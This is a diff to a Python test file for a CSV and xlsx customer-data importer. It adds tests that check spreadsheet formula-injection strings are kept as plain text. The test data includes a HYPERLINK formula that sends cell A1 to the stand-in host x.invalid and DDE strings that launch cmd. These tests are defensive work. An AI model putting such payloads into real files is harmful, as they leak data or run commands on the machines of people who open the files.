@@ -11,6 +11,7 @@ from contextlib import closing
 from datetime import UTC, date, datetime
 from pathlib import Path
 from typing import Any
+from xml.sax.saxutils import escape
 
 import pytest
 
@@ -89,9 +90,7 @@ class TestTexts:
     def test_signs_that_no_text_may_hold_are_replaced_and_counted(self, workspace: Workspace, tmp_path: Path) -> None:
         path = tmp_path / "c.csv"
         path.write_bytes(
-            b"Customer id,Name\nC1,a\x00b\nC2,\xed\xa0\x80half\nC3,\xed\xb2\x80other\n"
-            + b"C4,plain \xc3\xa9\n"
-            + b"C5,x\n"
+            b"Customer id,Name\nC1,a\x00b\nC2,\xed\xa0\x80half\nC3,\xed\xb2\x80other\nC4,plain \xc3\xa9\nC5,x\n"
         )
         report = bring(workspace, path, "customer", ("customer=Customer id", "name=Name"))
         assert report.rows.new == 5
@@ -110,6 +109,47 @@ class TestTexts:
         assert names[1] == "\U0001f600"
         assert names[0].startswith("be")
         assert names[0].endswith("low")
+
+
+PAYLOADS = [
+    *(
+        "=1+1",
+        '=HYPERLINK("http://x.invalid/?"&A1,"click")',
+        "@SUM(1)",
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "a;=1+1",
+        "|x",
+    ),
+    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=DDE(server;file;item)", "=cmd|'/C calc'!A0"),
+]
+
+
+class TestFormulas:
+    """Texts that a spreadsheet would run: they are kept as written, also where an export put a mark before them."""
+
+    @pytest.mark.parametrize("mark", ["", "'"])
+    def test_a_csv_brings_them_as_texts(self, workspace: Workspace, tmp_path: Path, mark: str) -> None:
+        dangerous = tuple("=+-@＝＋－＠")
+        rows = [[f"C{at}", mark * one.startswith(dangerous) + one] for at, one in enumerate(PAYLOADS)]
+        report = bring(
+            workspace,
+            write(tmp_path / "c.csv", ["Customer id", "Name"], rows),
+            "customer",
+            ("customer=Customer id", "name=Name"),
+        )
+        assert report.rows.new == len(PAYLOADS)
+        assert column(workspace, "customer", "name") == PAYLOADS
+
+    def test_so_does_a_spreadsheet(self, workspace: Workspace, tmp_path: Path) -> None:
+        lines = [["Customer id", "Name"], *([f"C{at}", one] for at, one in enumerate(PAYLOADS))]
+        rows = [
+            workbooks.row(line, *(workbooks.text(f"{'AB'[at]}{line}", escape(cell)) for at, cell in enumerate(cells)))
+            for line, cells in enumerate(lines, 1)
+        ]
+        path = workbooks.xlsx(tmp_path / "c.xlsx", {"S": workbooks.sheet(*rows)})
+        bring(workspace, path, "customer", ("customer=Customer id", "name=Name"))
+        assert column(workspace, "customer", "name") == PAYLOADS
 
 
 class TestNumbers:
